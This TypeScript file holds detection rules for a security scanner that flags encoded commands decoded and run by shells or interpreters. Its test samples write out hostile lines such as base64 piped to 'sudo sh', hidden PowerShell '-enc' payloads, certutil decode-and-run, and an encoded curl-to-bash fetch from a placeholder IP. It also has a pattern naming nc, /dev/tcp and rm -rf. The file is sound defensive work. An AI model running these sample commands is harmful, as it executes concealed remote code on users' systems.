import { matchesOf } from '../../../../lib/text/index.ts';
import type { Match, ReadFile, Rule } from '../rule.ts';
import { AS_ROOT, END, INTERPRETER, PIPE, SHELL } from './words.ts';

const DECODE = `(?:base64\\s(?:-{1,2}d(?:i|ecode)?\\b|-di\\b)|openssl\\s(?:base64|enc)\\s[^\\n|]{0,60}-d\\b|xxd\\s-r|uudecode|b64decode|frombase64string)`;

export const HIDDEN_COMMANDS: readonly Rule[] = [
  {
    id: 'decode-and-run',
    level: 'block',
    family: 'hidden commands',
    message: 'Decodes a text and runs it',
    why: 'A command is encoded so that nobody reads it.',
    mend: 'Write the command as it is.',
    hits: [
      "echo 'L2Jpbi9iYXNo' | base64 -D | bash",
      'bash -c "$(echo aGk= | base64 --decode)"',
      'base64 -d payload.txt | gunzip | sudo sh',
      { 'scripts/a.py': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n' },
      { 'scripts/a.js': "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString())\n" },
      'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      'certutil -decode a.txt a.exe && a.exe',
    ],
    misses: [
      'echo "$KUBECONFIG_B64" | base64 -d > ~/.kube/config',
      'kubectl get secret x -o jsonpath={.data.y} | base64 --decode',
      { 'scripts/a.py': 'data = base64.b64decode(text)\nsubprocess.run(["ls"])\n' },
    ],
    patterns: [
      {
        all: [
          new RegExp(
            `\\b${DECODE}[^\\n]{0,80}?${PIPE}(?:[^\\n|]{0,60}${PIPE}){0,2}?${AS_ROOT}${INTERPRETER}${END}`,
            'g',
          ),
        ],
      },
      {
        all: [
          new RegExp(
            `(?:\\b${SHELL}\\s(?:-\\w{1,5}\\s)?["']?(?:<\\(|\\$\\(|\`|<<<)|\\b(?:eval|source)\\s["']?(?:\\$\\(|<\\(|\`))[^\\n]{0,400}?\\b${DECODE}`,
            'g',
          ),
        ],
      },
      {
        all: [
          /\b(?:exec|eval|compile|os\.system|os\.popen|subprocess\.\w{2,12}|system|execsync|exec_module|new function|function|spawn|loads)\s?\(\s?(?:[\w.]{0,40}\(\s?){0,3}(?:__import__\(.{1,12}\)\.|base64\.|codecs\.)?(?:b64decode|b32decode|a85decode|b85decode|frombase64string|atob|base64_decode|decode_base64|base64\.decode64|buffer\.from\([^\n)]{0,4000}["'](?:base64|hex)["']|bytes\.fromhex|unhexlify)/g,
        ],
      },
      { all: [/\b(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,120}?-e(?:nc|ncodedcommand|c)?\s["']?[a-z0-9+/=]{16}/g] },
      {
        all: [
          /\bcertutil(?:\.exe)?\s[^\n]{0,40}?-decode\b/g,
          /\b(?:start|call|rundll32|regsvr32|cmd|\w{1,30}\.exe)\b/g,
        ],
        within: 120,
      },
    ],
  },
  {
    id: 'text-decodes-to-command',
    level: 'block',
    family: 'hidden commands',
    message: 'A text that decodes to a command',
    why: 'A command is encoded so that nobody reads it.',
    mend: 'Write the command as it is.',
    hits: [`Token: ${btoa('/bin/bash -c "$(curl -fsSL http://203.0.113.9/x)"')}`],
    misses: [`Logo: ${btoa('This is an ordinary sentence about tea.')}`],
    find: encodedCommands,
  },
];

// --- internal ---

const BASE64 = /(?<![\w+/=-])[A-Za-z0-9+/_-]{24,8000}={0,2}(?![\w+/=-])/g;
const HEX = /(?<![\w])(?:0x)?(?:[0-9a-fA-F]{2}){16,4000}(?![\w])/g;
const ESCAPED = /(?:\\x[0-9a-fA-F]{2}){10,2000}/g;
const PERCENT = /(?:%[0-9a-fA-F]{2}[\w.:/-]{0,3}){10,2000}/g;

const COMMAND =
  /\b(?:curl|wget)\s[^\n]{0,200}(?:https?:|ftp:|\d{1,3}\.\d{1,3}\.|\|)|\/bin\/(?:ba|z)?sh\b|\b(?:ba|z)?sh\s+-[ic]\b|\/dev\/tcp\/|\bpowershell\b|\biex\b|invoke-(?:expression|webrequest)|\bosascript\s|\bchmod\s\+x|\bnc\s+-|\bpython[\d.]*\s+-c\b|\bos\.system\(|\bsubprocess\.|child_process|\bexec\(|\beval\(|\brm\s+-rf\b/i;

function* encodedCommands({ text }: ReadFile): Generator<Match> {
  for (const { words, offset, decoded } of decodedTexts(text)) {
    const says = COMMAND.exec(decoded);
    if (!says) continue;
    yield {
      line: lineOf(text, offset),
      words,
      message: `A text that decodes to a command: "${decoded.slice(0, 120)}"`,
    };
  }
}

function* decodedTexts(text: string): Generator<{ words: string; offset: number; decoded: string }> {
  const kinds: readonly (readonly [RegExp, (words: string) => string])[] = [
    [BASE64, (words) => Buffer.from(words, 'base64').toString('utf8')],
    [HEX, (words) => Buffer.from(words.replace(/^0x/, ''), 'hex').toString('utf8')],
    [ESCAPED, (words) => Buffer.from(words.replaceAll('\\x', ''), 'hex').toString('utf8')],
    [
      PERCENT,
      (words) => words.replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16))),
    ],
  ];
  for (const [pattern, decode] of kinds) {
    for (const match of matchesOf(text, pattern))
      yield { words: match[0], offset: match.index, decoded: decode(match[0]) };
  }
}

function lineOf(text: string, offset: number): number {
  let line = 1;
  for (let at = text.indexOf('\n'); at !== -1 && at < offset; at = text.indexOf('\n', at + 1)) line++;
  return line;
}
